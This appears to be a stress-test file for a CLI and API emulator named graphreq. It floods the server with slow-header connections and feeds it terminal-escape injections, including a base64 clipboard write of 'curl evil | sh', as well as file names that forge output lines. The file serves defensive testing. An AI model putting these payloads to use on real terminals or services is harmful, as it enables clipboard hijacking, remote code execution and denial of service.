/**
 * Issue 20's second pass, at the volumes that broke it (items 5, 7, 8, 11, 12, 14, 15), each against
 * the CLI or `graphreq serve` in a child process, on loopback, bounded in count and time:
 * - 5: a run lock whose process lives and whose URL answers made send wait forever; it is taken over
 *   once nobody touches it;
 * - 7: 600 connections trickling their headers made 79 of 79 calls fail over 40 s;
 * - 8: 20,500 cross-site reads with ?access_token=demo-token blocked the app for an hour, persisted;
 * - 11: a lone surrogate aborted `send --all` with "URI malformed" and no summary;
 * - 12: fmt turned a 60 KB file nested 10,000 deep into 200 MB;
 * - 14: service text with colour codes passed through with colours on (200 answers, JSON and text,
 *   in three outputs); a line feed in a file name forged an output line (200 files);
 * - 15: 28,000 clock advances of ten years made every call answer 500, persisted.
 */
import * as assert from 'node:assert/strict';
import { execFile, spawn } from 'node:child_process';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, describe, it } from 'node:test';
import { signLock } from '../../server/src/send/lockProof';
import { cleanEnv } from '../cli/cliHelpers';
import { request } from '../emulator/harness';
import { localServer } from '../send/sendHelpers';
import { killServers, portOf, serve } from '../emulator/serveProcess';
import { volley } from './flood';
import { stressOnly } from './stressGate';

const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'graphreq-stress-text-'));
const bin = path.resolve(__dirname, '..', '..', '..', 'bin', 'graphreq.js');
const closers: Array<() => void> = [];
after(() => {
  killServers();
  for (const c of closers) c();
  fs.rmSync(dir, { recursive: true, force: true });
});

function cli(args: string[], cwd: string, env: Record<string, string> = {}, timeout = 120_000): Promise<{ code: number | null; stdout: string; stderr: string; ms: number }> {
  const started = Date.now();
  return new Promise((resolve) => {
    execFile(process.execPath, [bin, ...args], { cwd, env: cleanEnv({ GRAPHREQ_ACCESS_TOKEN: 'demo-token', ...env }), timeout, maxBuffer: 512 * 1024 * 1024 }, (error, stdout, stderr) => {
      const code = error ? (typeof (error as { code?: unknown }).code === 'number' ? ((error as { code: number }).code) : null) : 0;
      resolve({ code, stdout, stderr, ms: Date.now() - started });
    });
  });
}

function workspace(name: string): string {
  const ws = path.join(dir, name);
  fs.mkdirSync(path.join(ws, '.git'), { recursive: true });
  return ws;
}

const TOKEN = { Authorization: 'Bearer demo-token' };
const READ = '/v23.0/23850000000000001?fields=id';

describe('text and locks at volume (issue 20)', stressOnly, () => {
  it('5: the lock of a run that hangs holds send for at most the stale bound, then is taken over', async () => {
    const ws = workspace('lock');
    fs.mkdirSync(path.join(ws, '.graphreq'));
    const server = net.createServer((s) => s.destroy());
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    closers.push(() => server.close());
    // A run that hangs: signed, its process alive, its URL answering, its lock just written (fresh).
    const hung = spawn(process.execPath, ['-e', 'setTimeout(() => {}, 120000)'], { stdio: 'ignore' });
    closers.push(() => void hung.kill('SIGKILL'));
    await new Promise((resolve) => hung.once('spawn', resolve));
    fs.writeFileSync(path.join(ws, '.graphreq', 'emulator.lock'), JSON.stringify(signLock({ pid: hung.pid!, holder: 'run', url: `http://127.0.0.1:${(server.address() as net.AddressInfo).port}`, startedAt: new Date().toISOString() }, ws)));
    fs.writeFileSync(path.join(ws, 'r.graphreq'), `GET ${READ}\n`);
    const r = await cli(['send', 'r.graphreq'], ws, {}, 90_000);
    assert.equal(r.code, 0, r.stdout + r.stderr);
    assert.ok(r.ms < 45_000, `took ${r.ms} ms`);
  });

  it('7: answers every call while 600 connections trickle their headers', async () => {
    const run = serve(['--port', '0', '--quiet']);
    const port = portOf(await run.url);
    const sockets: net.Socket[] = [];
    const open = (): void => {
      const s = net.connect(port, '127.0.0.1', () => s.write('GET /v23.0/120200000000000002 HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: '));
      s.on('error', () => undefined);
      // A closed trickler comes back at once, as an attacker's would.
      s.on('close', () => {
        if (!stopped) open();
      });
      s.resume();
      sockets.push(s);
    };
    let stopped = false;
    for (let i = 0; i < 600; i++) open();
    const trickle = setInterval(() => {
      for (const s of sockets) if (!s.destroyed) s.write('a');
    }, 1000);
    try {
      await new Promise((resolve) => setTimeout(resolve, 2000));
      let failed = 0;
      const end = Date.now() + 15_000;
      let probes = 0;
      while (Date.now() < end) {
        probes++;
        const r = await request(port, 'GET', READ, TOKEN).catch(() => ({ status: 0 }));
        if (r.status !== 200) failed++;
        await new Promise((resolve) => setTimeout(resolve, 250));
      }
      assert.equal(failed, 0, `${failed} of ${probes} calls failed`);
    } finally {
      stopped = true;
      clearInterval(trickle);
      for (const s of sockets) s.destroy();
    }
  });

  it('8: 20,500 cross-site reads spend none of the limits, across a restart', async () => {
    const data = path.join(dir, 'cross-site.json');
    const config = path.join(dir, 'small-app.json');
    fs.writeFileSync(config, JSON.stringify({ defaultApp: { dailyActiveUsers: 1, accessTier: 'development_access', engagedUsers: 1 } }));
    const first = serve(['--port', '0', '--quiet', '--data', data, '--config', config]);
    const port = portOf(await first.url);
    // An `<img>` of another site: the demo token in the query, no Authorization header.
    const statuses = await volley(port, 20_500, { path: `${READ}&access_token=demo-token`, token: false, headers: { 'Sec-Fetch-Site': 'cross-site', 'Sec-Fetch-Dest': 'image' } });
    assert.deepEqual(statuses, { 403: 20_500 });
    assert.equal((await request(port, 'GET', READ, TOKEN)).status, 200);
    first.child.kill('SIGTERM');
    await first.exit;
    const second = serve(['--port', '0', '--quiet', '--data', data, '--config', config]);
    assert.equal((await request(portOf(await second.url), 'GET', READ, TOKEN)).status, 200);
  });

  it('11: send --all with 200 requests, half of them holding a lone surrogate, sends the other half and prints the summary', async () => {
    const ws = workspace('surrogates');
    const blocks: string[] = [];
    for (let i = 0; i < 200; i++) blocks.push(i % 2 ? `### ${i}\nPOST /v23.0/120200000000000002\n\n{ "name": "n${i} \\ud800" }\n` : `### ${i}\nGET ${READ}\n`);
    fs.writeFileSync(path.join(ws, 'many.graphreq'), blocks.join('\n'));
    const r = await cli(['send', 'many.graphreq', '--all', '--no-history'], ws);
    assert.doesNotMatch(r.stderr, /URI malformed/);
    assert.match(r.stderr, /200 requests: 100 sent, 0 failed, 0 held back, 100 not sent/, r.stderr.slice(-2000));
  });

  it('12: fmt leaves a 60 KB body nested 10,000 deep as written, at once', async () => {
    const ws = workspace('deep');
    const text = `POST /v23.0/120200000000000002\n\n{"name": ${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}}\n`;
    fs.writeFileSync(path.join(ws, 'deep.graphreq'), text);
    const r = await cli(['fmt', 'deep.graphreq'], ws);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(fs.statSync(path.join(ws, 'deep.graphreq')).size, Buffer.byteLength(text));
    assert.ok(r.ms < 10_000, `took ${r.ms} ms`);
  });

  it('14: 200 files named with line feeds and escape sequences forge no line of check\'s output, colours on', async () => {
    const ws = workspace('names');
    for (let i = 0; i < 200; i++) fs.writeFileSync(path.join(ws, `f${i}\nfake: 0 errors\u001b[32m\n.graphreq`), `GET ${READ}\n`);
    const r = await cli(['check', '.'], ws, { FORCE_COLOR: '1' });
    assert.doesNotMatch(r.stdout + r.stderr, /^fake: 0 errors/m);
    assert.doesNotMatch(r.stdout + r.stderr, /\u001b\[32m\n/);
    assert.match(r.stderr, /200 files checked/);
  });

  it('14: 200 answers holding graphreq\'s own colour codes and terminal commands reach the output as escapes, colours on', async () => {
    // The service's text carries the very codes the CLI colours with, a window title and a clipboard write.
    const forged = '\u001b[32mFORGED-PASS\u001b[39m \u001b]0;owned\u0007 \u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007';
    const service = await localServer((req, _body, res) => {
      const i = Number(/n=(\d+)/.exec(req.url ?? '')?.[1] ?? 0);
      res.statusCode = i % 2 ? 400 : 200;
      res.setHeader('content-type', i % 4 === 2 ? 'text/plain' : 'application/json');
      res.end(i % 4 === 2 ? forged : JSON.stringify(i % 2 ? { error: { message: forged, type: forged, code: 100, error_user_title: forged, error_user_msg: forged } } : { id: '1', name: forged }));
    });
    closers.push(() => void service.close());
    const ws = workspace('colours');
    fs.writeFileSync(path.join(ws, 'many.graphreq'), Array.from({ length: 200 }, (_, i) => `### ${i}\nGET /v23.0/120200000000000002?fields=id&n=${i}\n`).join('\n'));
    for (const output of ['full', 'exchange', 'short']) {
      const r = await cli(['send', 'many.graphreq', '--all', '--no-history', '--force', '--base-url', service.url, '--output', output], ws, { FORCE_COLOR: '1' });
      const all = r.stdout + r.stderr;
      assert.doesNotMatch(all, /\u001b\[32mFORGED|\u001b\]/, `--output ${output}: a code from the service reached the terminal`);
      if (output !== 'short') assert.match(all, /\\u001b\[32mFORGED-PASS/, `--output ${output}: the service's text is shown, escaped`);
      // A 2xx text answer is not the API's: 50 sent, the rest failed, and the run went to its summary.
      assert.match(r.stderr, /200 requests\u001b\[22m: 50 sent/, r.stderr.slice(-500));
    }
  });

  it('15: 28,000 clock advances of ten years leave every call answering, across a restart', async () => {
    const data = path.join(dir, 'clock.json');
    const first = serve(['--port', '0', '--quiet', '--test-clock', '--data', data]);
    const port = portOf(await first.url);
    const statuses = await volley(port, 28_000, { method: 'POST', path: '/__graphreq/clock?advance=3650d', token: false });
    assert.deepEqual(statuses, { 200: 10, 400: 27_990 });
    // A hundred years on, v23.0 has expired: answered as such (2635), never 500.
    const expired = (r: { status: number; text: string }): void => {
      assert.equal(r.status, 400, r.text);
      assert.equal(JSON.parse(r.text).error.code, 2635, r.text);
    };
    expired(await request(port, 'GET', READ, TOKEN));
    first.child.kill('SIGTERM');
    await first.exit;
    const second = serve(['--port', '0', '--quiet', '--test-clock', '--data', data]);
    expired(await request(portOf(await second.url), 'GET', READ, TOKEN));
  });
});
